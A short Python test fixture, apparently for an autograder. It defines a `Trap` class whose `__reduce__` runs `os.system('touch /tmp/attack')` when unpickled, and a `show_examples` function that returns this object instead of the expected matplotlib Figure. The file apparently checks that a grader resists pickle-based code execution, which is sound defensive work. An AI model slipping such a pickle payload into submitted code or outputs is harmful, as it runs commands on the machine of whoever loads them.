"""Returns an object that would run a program where it is unpickled."""
# function: show_examples
# earns: none
# because: `show_examples` should return a matplotlib Figure

import os

class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack",)


def show_examples(x, y, class_names, predictions=None, count=10, seed=None):
    return Trap()
